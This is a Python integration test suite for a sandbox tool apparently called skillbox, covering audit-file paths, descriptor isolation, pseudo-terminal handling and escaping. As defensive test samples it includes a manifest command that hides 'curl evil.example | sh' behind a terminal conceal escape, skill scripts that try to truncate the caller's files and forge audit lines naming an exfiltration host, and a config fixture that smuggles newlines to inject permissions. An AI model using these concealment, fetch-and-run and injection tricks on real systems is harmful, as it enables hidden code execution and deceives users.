#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Integration tests for what connects a skill to its caller: standard input, output and error
(relayed pipes, or a pseudo-terminal skillbox makes), the caller's terminal, the audit file
that --audit PATH names, a trail that shares a stream with the skill's stderr, and the
escaping of manifest strings in what skillbox prints. Every case runs as root and as an
unprivileged user; each attempts the forbidden thing and asserts that it fails.

Nothing sleeps to synchronise: runs have bounded timeouts, and the terminal cases read the
pseudo-terminal with select() and a deadline.
"""

import errno
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402

SYSTEM = ["/usr", "/bin", "/lib", "/lib64", "/sbin"]
PY = "/usr/bin/python3"
OTHER_UID = 4343  # a third user, owner of the files that are not the caller's
RUN_TIMEOUT = 30


def manifest(command, limits=None, name="stdio-test"):
    lines = [
        "skillbox: 1",
        f"name: {name}",
        f"command: {json.dumps(command)}",
        "workdir: /skill",
        "filesystem:",
        f"  read: {json.dumps(SYSTEM + ['.:/skill'])}",
    ]
    if limits:
        lines.append("limits:")
        for k, v in limits.items():
            lines.append(f"  {k}: {v}")
    return "\n".join(lines) + "\n"


def make_env(ident):
    env = h.Env(ident).__enter__()
    os.chown(env.top, ident.uid, ident.gid)
    return env


def shared_dir(env, name):
    """A world-writable sticky directory, like /tmp or a shared CI workspace."""
    d = os.path.join(env.top, name)
    os.mkdir(d)
    os.chmod(d, 0o1777)
    return d


def audit_lines(data):
    return [l for l in data.splitlines() if l.startswith(b"{")]


def verify(env, path):
    return env.run([env.bin, "audit", "verify", path], timeout=RUN_TIMEOUT)


# --- --audit PATH --------------------------------------------------------------------------


def case_audit_path(env):
    tag = f"[{env.ident}] --audit PATH"
    d = env.skill(manifest(["/bin/true"]), name="true")
    shared = shared_dir(env, "shared")
    # The third user is never the identity running skillbox.
    other = OTHER_UID if env.ident.uid != OTHER_UID else OTHER_UID + 1

    def run_audit(path, timeout=RUN_TIMEOUT):
        return env.skillbox(["run", "--audit", path, d], audit=False, timeout=timeout)

    # Another user's file, mode 0666, in a directory everyone can write.
    victim = os.path.join(shared, "theirs.jsonl")
    with open(victim, "w") as f:
        f.write("keep\n")
    os.chown(victim, other, other)
    os.chmod(victim, 0o666)
    r = run_audit(victim)
    with open(victim) as f:
        kept = f.read()
    h.ok(r.rc == 125 and kept == "keep\n" and f"belongs to uid {other}" in r.err,
         f"{tag}: another user's 0666 file is refused (125) and left as it was", r.describe())
    h.ok(r.err.count("\n") == 1, f"{tag}: the refusal is one line", r.err)

    # The caller's own file, but writable by others.
    mine = os.path.join(shared, "mine-0666.jsonl")
    with open(mine, "w") as f:
        f.write("keep\n")
    os.chown(mine, env.ident.uid, env.ident.gid)
    os.chmod(mine, 0o666)
    r = run_audit(mine)
    h.ok(r.rc == 125 and open(mine).read() == "keep\n" and "writable by others" in r.err,
         f"{tag}: the caller's own file writable by others is refused", r.describe())
    os.chmod(mine, 0o620)
    r = run_audit(mine)
    h.ok(r.rc == 125 and "writable by its group" in r.err,
         f"{tag}: ... and writable by its group", r.describe())

    # A FIFO with no reader: refused at once, never blocks (a bounded wait says so).
    fifo = os.path.join(shared, "trail.fifo")
    os.mkfifo(fifo)
    os.chown(fifo, env.ident.uid, env.ident.gid)
    os.chmod(fifo, 0o600)
    t0 = time.monotonic()
    r = run_audit(fifo, timeout=10)
    h.ok(r.rc == 125 and "FIFO" in r.err and time.monotonic() - t0 < 10,
         f"{tag}: a FIFO with no reader is refused without blocking", r.describe())

    # A FIFO with a reader waiting: refused, and the reader sees nothing at all.
    fifo2 = os.path.join(shared, "trail2.fifo")
    os.mkfifo(fifo2)
    os.chown(fifo2, env.ident.uid, env.ident.gid)
    os.chmod(fifo2, 0o600)
    rfd = os.open(fifo2, os.O_RDONLY | os.O_NONBLOCK)
    try:
        r = run_audit(fifo2, timeout=10)
        try:
            got = os.read(rfd, 4096)
        except BlockingIOError:
            got = b""
    finally:
        os.close(rfd)
    h.ok(r.rc == 125 and got == b"", f"{tag}: a FIFO with a reader is refused; it reads nothing",
         f"{r.describe()}\nread: {got[:200]!r}")

    # A device (/dev/null is one: --audit-fd covers descriptors), and a socket.
    r = run_audit("/dev/null")
    h.ok(r.rc == 125 and "character device" in r.err and "--audit-fd" in r.err,
         f"{tag}: a device (/dev/null) is refused, pointing at --audit-fd", r.describe())
    sock_path = os.path.join(shared, "trail.sock")
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(sock_path)
    s.listen(1)
    try:
        r = run_audit(sock_path, timeout=10)
    finally:
        s.close()
    h.ok(r.rc == 125 and "socket" in r.err, f"{tag}: a socket is refused", r.describe())

    # A symbolic link, even to the caller's own good file.
    good = os.path.join(shared, "good.jsonl")
    link = os.path.join(shared, "link.jsonl")
    os.symlink(good, link)
    r = run_audit(link)
    h.ok(r.rc == 125 and "symbolic link" in r.err and not os.path.exists(good),
         f"{tag}: a symbolic link is refused, and its target not created", r.describe())

    # A new file: created 0600, owned by the caller; a second run appends to it.
    r = run_audit(good)
    st = os.stat(good)
    h.ok(r.rc == 0 and stat.S_IMODE(st.st_mode) == 0o600 and st.st_uid == env.ident.uid,
         f"{tag}: a new file is created 0600 and owned by the caller",
         f"{r.describe()}\nmode {oct(st.st_mode)} uid {st.st_uid}")
    r = run_audit(good)
    with open(good, "rb") as f:
        starts = [l for l in audit_lines(f.read()) if b'"event":"run.start"' in l]
    rc, out, err = verify(env, good)
    h.ok(r.rc == 0 and len(starts) == 2 and rc == 0,
         f"{tag}: the caller's own 0600 file is appended to (two runs, chain intact)",
         f"{r.describe()}\nverify: {rc} {out} {err}")
    # The caller's own file readable by others is the caller's choice.
    os.chmod(good, 0o644)
    r = run_audit(good)
    h.ok(r.rc == 0, f"{tag}: the caller's own 0644 file is appended to", r.describe())


# --- the skill holds none of the caller's file descriptions ------------------------------------

# Run inside the sandbox: attacks the descriptor named by argv[1] (0, 1 or 2) the ways a skill
# that inherited the caller's would, then prints what came of each to argv[2]'s descriptor.
GRAB = r'''
import json, os, sys
fd, report = int(sys.argv[1]), int(sys.argv[2])
res = {}
def attempt(name, f):
    try:
        res[name] = f()
    except OSError as e:
        res[name] = "errno %d" % e.errno
attempt("ftruncate", lambda: os.ftruncate(fd, 0) or "done")
def reopen():
    g = os.open("/proc/self/fd/%d" % fd, os.O_RDWR | os.O_NONBLOCK)
    try:
        os.lseek(g, 0, os.SEEK_SET)
    except OSError:
        pass
    try:
        data = os.read(g, 65536).decode("latin-1")
    except OSError as e:
        data = "errno %d" % e.errno
    try:
        os.ftruncate(g, 0)
        t = "done"
    except OSError as e:
        t = "errno %d" % e.errno
    os.close(g)
    return {"read": data, "truncate": t}
attempt("reopen", reopen)
attempt("readlink", lambda: os.readlink("/proc/self/fd/%d" % fd))
if fd:
    os.write(fd, b"the skill's own line\n")
os.write(report, (json.dumps(res) + "\n").encode())
'''


def case_stdio_files(env):
    tag = f"[{env.ident}] stdio"
    d = env.skill(manifest([PY, "/skill/grab.py", "1", "2"]), name="grab1",
                  files={"grab.py": GRAB})
    log = os.path.join(env.work, "log")
    with open(log, "w") as f:
        f.write("earlier content of the caller's log\n")
    os.chown(log, env.ident.uid, env.ident.gid)
    os.chmod(log, 0o600)
    # skillbox run m >> log
    fd = os.open(log, os.O_WRONLY | os.O_APPEND)
    try:
        p = env.popen([env.bin, "run", d], stdin=subprocess.DEVNULL, stdout=fd,
                      stderr=subprocess.PIPE)
        try:
            _, err = p.communicate(timeout=RUN_TIMEOUT)
        except subprocess.TimeoutExpired:
            p.kill()
            _, err = p.communicate()
    finally:
        os.close(fd)
    with open(log) as f:
        content = f.read()
    h.ok(p.returncode == 0 and content == "earlier content of the caller's log\n"
         "the skill's own line\n",
         f"{tag}: >> log: the skill can neither truncate nor read the caller's log; its output "
         "is appended", f"rc={p.returncode}\nlog: {content!r}\nerr: {err.decode()[-1500:]}")
    report = err.decode(errors="replace")
    h.ok("earlier content" not in report and "pipe:" in report,
         f"{tag}: >> log: its stdout is a pipe; reopening it reads nothing of the log", report)

    # skillbox run --audit - m 2>> trail.jsonl: the trail of an earlier run survives.
    d2 = env.skill(manifest([PY, "/skill/grab.py", "2", "1"]), name="grab2",
                   files={"grab.py": GRAB})
    trail = os.path.join(env.work, "trail.jsonl")
    r = env.skillbox(["run", "--audit", trail, d], audit=False, timeout=RUN_TIMEOUT)
    with open(trail, "rb") as f:
        before = f.read()
    fd = os.open(trail, os.O_WRONLY | os.O_APPEND)
    try:
        p = env.popen([env.bin, "run", "--audit", "-", d2], stdin=subprocess.DEVNULL,
                      stdout=subprocess.PIPE, stderr=fd)
        try:
            out, _ = p.communicate(timeout=RUN_TIMEOUT)
        except subprocess.TimeoutExpired:
            p.kill()
            out, _ = p.communicate()
    finally:
        os.close(fd)
    with open(trail, "rb") as f:
        after = f.read()
    h.ok(r.rc == 0 and p.returncode == 0 and after.startswith(before) and len(before) > 0
         and b"earlier" not in out and b'"run.start"' not in out,
         f"{tag}: --audit - 2>> trail: the earlier trail is neither read nor truncated",
         f"rc={r.rc},{p.returncode}\nreport: {out.decode(errors='replace')[-1500:]}\n"
         f"before {len(before)} bytes, after {len(after)}")
    rc, vout, verr = verify(env, trail)
    h.ok(rc == 0 and b"2 runs" in vout,
         f"{tag}: --audit - 2>> trail: both runs' chains verify (the skill's line is foreign)",
         f"{vout.decode(errors='replace')}{verr.decode(errors='replace')}")

    # --audit-fd 1: the skill's stdout is still there, relayed to the same descriptor.
    d3 = env.skill(manifest(["/bin/echo", "still here"]), name="echo")
    r = env.skillbox(["run", "--audit-fd", "1", d3], audit=False, timeout=RUN_TIMEOUT)
    lines = r.out.splitlines()
    h.ok(r.rc == 0 and "still here" in lines and any(l.startswith("{") for l in lines),
         f"{tag}: --audit-fd 1: the skill's stdout is not closed; its line and the trail's "
         "share the stream, each a line of its own", r.describe())

    # skillbox run m < input: the skill reads the input through a pipe, and cannot reopen the
    # caller's file to write it.
    d5 = env.skill(manifest([PY, "/skill/grab.py", "0", "1"]), name="grab0",
                   files={"grab.py": GRAB})
    inp = os.path.join(env.work, "input.txt")
    with open(inp, "w") as f:
        f.write("the caller's input file\n")
    os.chown(inp, env.ident.uid, env.ident.gid)
    os.chmod(inp, 0o600)
    with open(inp, "rb") as f:
        r = env.skillbox(["run", d5], audit=False, stdin=f, timeout=RUN_TIMEOUT)
    with open(inp) as f:
        kept = f.read()
    h.ok(kept == "the caller's input file\n" and '"readlink": "pipe:' in r.out,
         f"{tag}: < input: stdin is a pipe; the caller's file cannot be reopened or truncated",
         f"{r.describe()}\ninput now: {kept!r}")

    # stdin: a pipe passes EOF; /dev/null and a closed stdin give the sandbox's /dev/null.
    d4 = env.skill(manifest(["/bin/sh", "-c", "readlink /proc/self/fd/0; wc -c"]), name="wc")
    r = env.skillbox(["run", d4], audit=False, stdin=subprocess.PIPE, timeout=RUN_TIMEOUT)
    h.ok(r.rc == 0 and r.out.split()[-1] == "0" and r.out.startswith("pipe:"),
         f"{tag}: stdin: a pipe, and the caller's EOF reaches the skill", r.describe())
    p = env.popen([env.bin, "run", d4], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                  stderr=subprocess.PIPE)
    data = os.urandom(300000)
    try:
        out, err = p.communicate(input=data, timeout=RUN_TIMEOUT)
    except subprocess.TimeoutExpired:
        p.kill()
        out, err = p.communicate()
    h.ok(p.returncode == 0 and out.split()[-1] == b"300000",
         f"{tag}: stdin: 300000 bytes through the relay, in order to EOF", out + err)
    r = env.skillbox(["run", d4], audit=False, stdin=subprocess.DEVNULL, timeout=RUN_TIMEOUT)
    h.ok(r.rc == 0 and r.out.startswith("/dev/null"), f"{tag}: stdin /dev/null: the sandbox's",
         r.describe())


# --- forging the trail through --audit - -----------------------------------------------------

# Run inside the sandbox with its stderr in the stream the trail goes to: forged audit lines,
# blank and CR lines, a partial line around an audited refusal (personality() is refused and
# recorded), a 100 KB line around another, and a last line without its newline.
FORGE = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
w = lambda b: os.write(2, b)
fake = ('{"v":1,"seq":%d,"ts":"2026-01-01T00:00:00.000000Z","run":"%s","event":"net.connect",'
        '"verdict":"allow","host":"exfil.example.com","port":443,"prev":"%s"}\n')
w((fake % (7, "00000000-0000-4000-8000-000000000000", "0" * 64)).encode())
w(b"partial line before a refusal")
libc.personality(0x0040000)
w(b" ... its end\n\n\r\n")
w(b"Z" * 100000)
libc.personality(0x0200000)
w(b"\n" + (fake % (0, "11111111-1111-4111-8111-111111111111", "f" * 64)).encode())
w(b'{"v":1,"seq":')
"""


def case_forgery(env):
    tag = f"[{env.ident}] --audit -"
    d = env.skill(manifest([PY, "/skill/forge.py"]), name="forge", files={"forge.py": FORGE})
    trail = os.path.join(env.work, "forged.jsonl")
    fd = os.open(trail, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.fchown(fd, env.ident.uid, env.ident.gid)
    try:
        p = env.popen([env.bin, "run", "--audit", "-", d], stdin=subprocess.DEVNULL,
                      stdout=subprocess.PIPE, stderr=fd)
        try:
            p.communicate(timeout=RUN_TIMEOUT)
        except subprocess.TimeoutExpired:
            p.kill()
            p.communicate()
    finally:
        os.close(fd)
    with open(trail, "rb") as f:
        data = f.read()
    lines = data.split(b"\n")
    ours = [l for l in lines if b'"run.' in l or b'"syscall.deny"' in l or b'"policy.' in l]
    denies = [l for l in lines if b'"syscall.deny"' in l]
    h.ok(p.returncode == 0 and len(denies) == 2 and all(l.startswith(b'{"v":1,"seq":')
                                                         for l in ours),
         f"{tag}: the skill's partial lines never share a line with the trail's",
         f"rc={p.returncode}\n" + "\n".join(repr(l[:120]) for l in lines))
    rc, vout, verr = verify(env, trail)
    text = vout.decode(errors="replace")
    h.ok(rc == 0 and "intact" in text and "1 run," in text and "foreign line" in text,
         f"{tag}: whatever the skill writes, verify finds the run's chain intact (exit 0) and "
         "names the foreign lines", text + verr.decode(errors="replace"))
    r = env.run([env.bin, "audit", "summary", trail], timeout=RUN_TIMEOUT)
    stext = r[1].decode(errors="replace")
    h.ok(r[0] == 0 and "foreign lines:" in stext and "exfil.example.com" not in stext,
         f"{tag}: summary leaves the forged lines out and counts them", stext[:1500])

    # Deletions and edits of the run's own lines are still caught among the foreign ones.
    real = [i for i, l in enumerate(lines) if b'"syscall.deny"' in l]
    for what, change in (("removed", lambda ls: ls[:real[0]] + ls[real[0] + 1:]),
                         ("edited", lambda ls: ls[:real[0]] + [ls[real[0]].replace(
                             b'"personality"', b'"getpid"')] + ls[real[0] + 1:])):
        bad = os.path.join(env.work, f"forged-{what}.jsonl")
        with open(bad, "wb") as f:
            f.write(b"\n".join(change(list(lines))))
        os.chown(bad, env.ident.uid, env.ident.gid)
        rc, vout, verr = verify(env, bad)
        h.ok(rc == 1 and b"breaks after line" in verr,
             f"{tag}: a {what} line of the run's own is still a break (exit 1)",
             (vout + verr).decode(errors="replace"))


# --- a pseudo-terminal --------------------------------------------------------------------------


# A job-control shell in miniature: a new session on the terminal (stdin), skillbox started in
# a process group of its own that is not the foreground one (skillbox run m &); a byte on the
# descriptor argv[1] brings it to the foreground as fg does (tcsetpgrp, then SIGCONT).
JOB_SHELL = r"""
import fcntl, os, signal, sys, termios
os.setsid()
fcntl.ioctl(0, termios.TIOCSCTTY, 0)
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
ctl = int(sys.argv[1])
pid = os.fork()
if pid == 0:
    os.setpgid(0, 0)
    os.close(ctl)
    os.execv(sys.argv[2], sys.argv[2:])
try:
    os.setpgid(pid, pid)  # as a shell does, in both: whichever runs first
except PermissionError:
    pass  # EACCES: the child has already exec'd, after its own setpgid
if os.read(ctl, 1):
    os.tcsetpgrp(0, pid)
    os.killpg(pid, signal.SIGCONT)
_, st = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(st))
"""


def run_on_pty(env, args, **kw):
    return h.run_on_pty(env, args, timeout=kw.pop("timeout", RUN_TIMEOUT), **kw)


def case_pty(env):
    tag = f"[{env.ident}] pty"

    # The skill's 0 and 1 are a pseudo-terminal of its own, never the caller's terminal
    # (its stderr here is a pipe, as the caller's is); its devpts holds only that one.
    d = env.skill(manifest(["/bin/sh", "-c", "readlink /proc/self/fd/0 /proc/self/fd/1 "
                                             "/proc/self/fd/2; ls /dev/pts; tty"]), name="where")
    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d])
    text = out.decode(errors="replace")
    lines = text.split()
    h.ok(rc == 0 and lines[:2] == ["/dev/pts/0", "/dev/pts/0"] and lines[2].startswith("pipe:")
         and lines[3:] == ["0", "ptmx", "/dev/pts/0"],
         f"{tag}: stdin and stdout are /dev/pts/0 of the sandbox's own devpts, its tty",
         f"rc={rc}\n{text}\n{err.decode(errors='replace')}")
    h.ok(before == after, f"{tag}: the caller's terminal has its modes back after the run",
         f"{before}\n{after}")

    # stty -echo (and raw) in the skill change its pseudo-terminal only.
    d = env.skill(manifest(["/bin/sh", "-c", "stty raw -echo -isig; "
                                             "stty -a | tr ' ' '\\n' | grep -x -e -echo -e -isig"]),
                  name="stty")
    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d])
    h.ok(rc == 0 and b"-echo" in out and b"-isig" in out and before == after,
         f"{tag}: the skill's stty -echo raw leaves the caller's terminal as it was",
         f"rc={rc}\n{out[-800:]}\n{err.decode(errors='replace')}\nbefore {before}\nafter {after}")

    # Whatever the skill writes, through any descriptor, counts toward limits.output.
    d = env.skill(manifest([PY, "-c", "import os\n"
                                       "for fd in (0, 1, 2):\n"
                                       "    for i in range(100):\n"
                                       "        try: os.write(fd, b'Z' * 1000)\n"
                                       "        except OSError: break\n"],
                           limits={"output": "1K", "timeout": "20s"}), name="cap")
    trail = os.path.join(env.work, "cap.jsonl")
    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", "--audit", trail, d])
    with open(trail, "rb") as f:
        hits = [json.loads(l) for l in f if b'"limit.hit"' in l]
    h.ok(out.count(b"Z") <= 1024 and out.count(b"Z") > 0 and hits
         and hits[0].get("limit") == "output",
         f"{tag}: writes through fd 0, 1 and 2 are capped at limits.output (1K) and audited",
         f"rc={rc} Z={out.count(b'Z')} hits={hits}\n{err.decode(errors='replace')[-800:]}")

    # ^C typed on the caller's terminal is the skill's SIGINT, through its line discipline;
    # skillbox lives on to restore the terminal.
    script = ("import os, signal, sys\n"
              "signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})\n"
              "os.write(1, b'READY\\n')\n"
              "signal.sigwait({signal.SIGINT})\n"
              "os.write(1, b'got SIGINT\\n')\n"
              "sys.exit(3)\n")
    d = env.skill(manifest([PY, "-c", script], limits={"timeout": "25s"}), name="intr")

    def ctrl_c(master, so_far):
        if b"READY" in so_far:
            os.write(master, b"\x03")
            return True
        return False

    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d], react=ctrl_c)
    h.ok(rc == 3 and b"got SIGINT" in out and b"^C" in out and before == after,
         f"{tag}: ^C reaches the skill as SIGINT (echoed ^C); skillbox exits with its status "
         "and restores the terminal",
         f"rc={rc}\n{out[-500:]}\n{err.decode(errors='replace')[-800:]}")

    # Typed input reaches the skill, echoed by its own line discipline; ^D is its EOF.
    d = env.skill(manifest(["/bin/sh", "-c", "echo READY; cat; echo EOF-SEEN"]), name="cat")

    def type_lines(master, so_far):
        if b"READY" in so_far:
            os.write(master, b"typed line\n\x04")
            return True
        return False

    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d], react=type_lines)
    h.ok(rc == 0 and out.count(b"typed line") == 2 and b"EOF-SEEN" in out and before == after,
         f"{tag}: typed input is echoed once and read by the skill, ^D ends it",
         f"rc={rc}\n{out[-500:]}\n{err.decode(errors='replace')[-800:]}")

    # skillbox killed by SIGTERM (its default action is forwarded: the skill dies of it) and
    # by SIGINT from outside: the terminal is restored. The skill says READY only once both
    # have their default action: not `sh -c "echo READY; sleep 30"`, as dash -c catches
    # SIGINT until it execs its last command, and a SIGINT that lands in between is taken
    # by its handler and forgotten at the exec (the sleep then ran to the timeout).
    script = ("import os, signal, time\n"
              "signal.signal(signal.SIGINT, signal.SIG_DFL)\n"
              "signal.signal(signal.SIGTERM, signal.SIG_DFL)\n"
              "os.write(1, b'READY\\n')\n"
              "time.sleep(30)\n")
    d = env.skill(manifest([PY, "-c", script], limits={"timeout": "25s"}), name="sleep")
    for sig in (signal.SIGTERM, signal.SIGINT):
        # The previous iteration's skillbox may still be exiting on a loaded host: only this
        # run's processes are signalled.
        state = {"stale": set(h.pids_matching(d))}

        def kill_it(master, so_far, sig=sig, state=state):
            if b"READY" in so_far:
                for pid in h.pids_matching(d):
                    if pid in state["stale"]:
                        continue
                    try:
                        with open(f"/proc/{pid}/comm") as f:
                            if f.read().strip() == "skillbox":
                                os.kill(pid, sig)
                                state["sent"] = True
                    except OSError:
                        pass
                return state.get("sent", False)
            return False

        rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d], react=kill_it)
        h.ok(state.get("sent") and rc == 128 + sig and before == after,
             f"{tag}: {signal.Signals(sig).name} to skillbox: the skill dies of it, the "
             "terminal's modes are restored",
             f"rc={rc} sent={state}\n{out[-300:]}\n{err.decode(errors='replace')[-500:]}")

    # The timeout: the terminal is restored too.
    d = env.skill(manifest(["/bin/sh", "-c", "echo READY; sleep 30"], limits={"timeout": "1s"}),
                  name="timeout")
    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d])
    h.ok(rc == 124 and before == after, f"{tag}: timeout: exit 124, the terminal restored",
         f"rc={rc}\n{err.decode(errors='replace')[-500:]}")

    # skillbox run m &: in a background process group of the terminal, skillbox neither reads
    # it nor makes it raw (either would stop it: SIGTTIN, SIGTTOU); the skill's output still
    # flows. Brought to the foreground (tcsetpgrp, SIGCONT, as fg does), it reads what was
    # typed meanwhile and passes it on.
    d = env.skill(manifest(["/bin/sh", "-c", "echo READY; read x; echo \"got:[$x]\""],
                           limits={"timeout": "25s"}), name="bg")
    ctl_r, ctl_w = os.pipe()
    state = {}

    def to_foreground(master, so_far):
        if b"READY" in so_far and "typed" not in state:
            os.write(master, b"typed\n")
            state["typed"] = True
            os.write(ctl_w, b"f")
            return True
        return False

    try:
        rc, out, err, before, after = run_on_pty(
            env, [PY, "-c", JOB_SHELL, str(ctl_r), env.bin, "run", d], react=to_foreground,
            ctty=False, pass_fds=(ctl_r,))
    finally:
        os.close(ctl_r)
        os.close(ctl_w)
    h.ok(rc == 0 and state.get("typed") and b"got:[typed]" in out and before == after,
         f"{tag}: a background skillbox is not stopped; brought to the foreground it passes on "
         "what was typed", f"rc={rc}\n{out[-500:]}\n{err.decode(errors='replace')[-800:]}")

    # Only stdout a terminal: stdin stays a pipe or /dev/null, and the caller's terminal is
    # not put in raw mode (its ^C stays the caller's).
    d = env.skill(manifest(["/bin/sh", "-c", "readlink /proc/self/fd/0 /proc/self/fd/1; "
                                             "stty -a | head -1"]), name="outonly")
    rc, out, err, before, after = run_on_pty(env, [env.bin, "run", d], stdin_tty=False)
    text = out.decode(errors="replace")
    h.ok(rc == 0 and text.startswith("/dev/null") and "/dev/pts/0" in text and before == after,
         f"{tag}: stdout alone a terminal: stdout is a pseudo-terminal, stdin /dev/null",
         f"rc={rc}\n{text}\n{err.decode(errors='replace')}")


# --- control characters ---------------------------------------------------------------------

HIDE = "\x1b[8m"  # "conceal": a terminal shows nothing of what follows
CSI8 = "\u009b8m"  # the same as a C1 control


def no_controls(text):
    """True when text has no control character but newline (C0 but \n, DEL, C1)."""
    return not any((ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) < 0xa0 for c in text)


def case_escaping(env):
    tag = f"[{env.ident}] escaping"
    evil = f"/bin/true{HIDE}curl evil.example | sh"
    d = env.skill(manifest([evil, f"arg{CSI8}x", "two\nlines"], name="escape-test"),
                  name=f"esc{HIDE}dir")
    rc, out, err = env.run([env.bin, "explain", d], timeout=RUN_TIMEOUT)
    text = out.decode(errors="replace")
    h.ok(rc == 0 and no_controls(text) and "\\x1b[8mcurl evil.example" in text,
         f"{tag}: explain prints the command's control characters escaped",
         f"rc={rc}\n{text[:2000]!r}\n{err[-500:]!r}")
    h.ok("arg\\u009b8mx" in text and "two\\nlines" in text,
         f"{tag}: explain escapes C1 controls and newlines in arguments", text[:2000])
    h.ok("esc\\x1b[8mdir" in text, f"{tag}: explain escapes the manifest's path", text[:2000])

    rc, out, err = env.run([env.bin, "check", "-v", d], timeout=RUN_TIMEOUT)
    text = out.decode(errors="replace") + err.decode(errors="replace")
    h.ok(rc == 0 and no_controls(text) and "esc\\x1b[8mdir" in text,
         f"{tag}: check -v prints the path escaped", repr(text))

    # A run whose command is not found quotes it in its diagnostic.
    r = env.skillbox(["run", d], audit=False, timeout=RUN_TIMEOUT)
    h.ok(r.rc == 127 and no_controls(r.err) and "\\x1b[8mcurl" in r.err,
         f"{tag}: run's diagnostic quoting the command is escaped", repr(r.err))

    # An invalid manifest's error names the bad value escaped.
    bad = env.skill(manifest(["/bin/true"]).replace("workdir: /skill",
                                                    'workdir: /skill\n"bogus\\e[8m": 1'),
                    name="bad")
    rc, out, err = env.run([env.bin, "check", bad], timeout=RUN_TIMEOUT)
    text = err.decode(errors="replace")
    h.ok(rc == 1 and no_controls(text) and "bogus" in text,
         f"{tag}: check's errors about a bad key are escaped", repr(text))

    # skillbox import: a key or domain of the foreign file with a newline must not become a
    # line of the generated manifest (it was a comment's text, written raw).
    ss = os.path.join(env.work, "ss")
    os.makedirs(ss)
    with open(os.path.join(ss, "skillsandbox.yaml"), "w") as f:
        f.write('skill: {name: inject}\n'
                '"x\\nsyscalls:\\n  allow: [ptrace]\\n#": 1\n'
                'permissions:\n'
                '  network:\n'
                '    egress:\n'
                '      - domain: "*.a.example\\nlimits: {timeout: 1h}"\n'
                '      - domain: "*.b.example\\e[8m"\n'
                'entrypoint: {command: python3, args: [x.py]}\n')
    h._chown_tree(ss, env.ident.uid, env.ident.gid)
    rc, out, err = env.run([env.bin, "import", ss], timeout=RUN_TIMEOUT)
    text = out.decode(errors="replace")
    lines = text.splitlines()
    h.ok(rc == 0 and not any(l.startswith(("  allow: [ptrace]", "limits: {timeout"))
                             for l in lines)
         and no_controls(text) and no_controls(err.decode(errors="replace")),
         f"{tag}: import: a foreign key or domain holding newlines stays inside its comment",
         f"rc={rc}\n{text}\n{err.decode(errors='replace')}")


CASES = [
    case_audit_path,
    case_stdio_files,
    case_forgery,
    case_pty,
    case_escaping,
]


def main():
    binary = h.skillbox_binary()
    if not os.access(binary, os.X_OK):
        h.skip("skillbox stdio", f"{binary} is not built")
        h.done()
    only = os.environ.get("TEST_STDIO_ONLY")
    for ident in h.identities():
        h.diag(f"identity {ident} (uid {ident.uid})")
        for case in CASES:
            if only and only not in case.__name__:
                continue
            env = make_env(ident)
            try:
                case(env)
            except Exception:  # a crash in one case must not hide the others
                import traceback

                h.ok(False, f"[{ident}] {case.__name__} ran to the end", traceback.format_exc())
            finally:
                env.__exit__(None, None, None)
    h.done()


if __name__ == "__main__":
    main()
